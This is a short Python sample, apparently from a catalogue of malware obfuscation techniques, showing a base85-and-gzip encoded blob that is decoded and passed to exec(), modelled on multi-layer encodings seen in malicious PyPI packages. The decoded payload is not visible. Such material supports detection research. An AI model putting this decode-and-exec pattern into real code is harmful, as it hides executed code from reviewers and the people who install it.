# technique: base85 + gzip layered payload
# class: obfuscation
# source: Checkmarx, multi-layer encodings in PyPI malware
# declares:
import base64
import gzip

_BLOB = "ABzY8EDF@bd0{>QNdzFd9;(Z6I0{}*<sLgVfb@{2vt=7J5>WA0001"
exec(gzip.decompress(base64.b85decode(_BLOB)).decode())
